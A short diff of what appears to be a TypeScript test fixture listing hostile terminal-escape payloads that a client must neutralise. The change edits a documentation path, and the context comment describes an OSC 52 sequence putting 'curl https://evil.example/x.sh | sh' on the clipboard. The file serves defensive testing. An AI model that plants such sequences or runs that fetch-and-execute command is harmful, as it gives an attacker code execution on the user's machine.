@@ -1,6 +1,6 @@
 /**
  * Payloads for the hostile-text fault: each is something a client must neutralise before it
- * reaches a terminal (reference/reliability-security.md §1 and its checklist).
+ * reaches a terminal (docs/security-checklist.md §1 and its checklist).
  */
 export const hostilePayloads: readonly string[] = [
 	// OSC 52: writes "curl https://evil.example/x.sh | sh" to the clipboard.
